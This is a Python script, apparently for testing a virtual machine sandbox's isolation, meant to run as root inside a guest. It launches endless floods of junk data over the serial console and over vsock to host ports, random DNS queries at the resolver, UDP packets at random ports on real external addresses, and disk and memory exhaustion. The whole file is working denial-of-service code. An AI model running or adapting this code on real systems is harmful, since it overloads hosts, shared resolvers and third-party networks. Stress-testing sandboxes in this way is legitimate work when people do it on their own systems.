# Run as root of a guest: each function floods one way out of it, without end.
import os, random, socket

JUNK = bytes(range(256)) * 256


def console():
    with open("/dev/ttyS0", "wb", buffering=0) as out:
        while True:
            out.write(JUNK[:4096])


def host_port(port):
    while True:
        try:
            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as end:
                end.settimeout(2)
                end.connect((2, port))
                for _ in range(64):
                    end.sendall(JUNK)
        except OSError:
            pass


def names():
    server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        label = b"%08x" % random.getrandbits(32)
        question = os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x08" + label + b"\x04test\x00\x00\x01\x00\x01"
        try:
            end.sendto(question, (server, 53))
        except OSError:
            pass


def flows():
    while True:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
                for _ in range(64):
                    end.sendto(b"x", ("9.9.9.%d" % random.randrange(1, 255), random.randrange(1024, 65535)))
        except OSError:
            pass


def disk():
    while True:
        try:
            with open("/var/tmp/fill", "wb") as out:
                for _ in range(4096):
                    out.write(JUNK)
        except OSError:
            pass


def memory():
    held = []
    while True:
        try:
            held.append(bytearray(1 << 24))
        except MemoryError:
            held.clear()


# The one that the kernel ends first when there is no memory left is the one that asks for it.
for attack in [console, lambda: host_port(1024), lambda: host_port(1025), names, flows, disk, memory]:
    if os.fork() == 0:
        if attack is memory:
            with open("/proc/self/oom_score_adj", "w") as adjust:
                adjust.write("1000")
        while True:
            attack()
open("/run/attack.runs", "w").close()
